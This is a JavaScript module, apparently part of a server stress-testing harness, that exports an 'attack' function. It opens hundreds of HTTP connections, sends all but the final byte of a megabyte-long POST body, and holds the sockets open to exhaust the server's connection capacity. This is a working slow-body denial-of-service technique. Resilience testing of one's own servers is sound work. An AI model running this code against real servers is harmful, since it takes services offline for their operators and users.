// Bodies of HTTP requests that never end: all but their last byte is sent, to any path.
import { lanes, open, requestText, ended, delay, drop, isOver, write } from './wire_http.mjs';

export async function attack({ ports, until, port = 'output', path = '/nothing', size = 1_000_000, connections = 400 }) {
  const begun = Buffer.from(requestText('POST', path, 'x'.repeat(size - 1), { length: size }));
  const said = { opened: 0, bytes: 0, held: 0 };
  await lanes(connections, until, async () => {
    const socket = await open(ports[port]);
    if (!socket) return false;
    ++said.opened;
    const late = delay(Math.max(0, until - performance.now()), false, { ref: false });
    if (await Promise.race([write(socket, begun), late])) said.bytes += begun.length;
    ++said.held;
    while (!isOver(until) && !ended(socket)) await delay(20);
    if (!isOver(until)) --said.held;
    drop(socket);
  });
  return said;
}
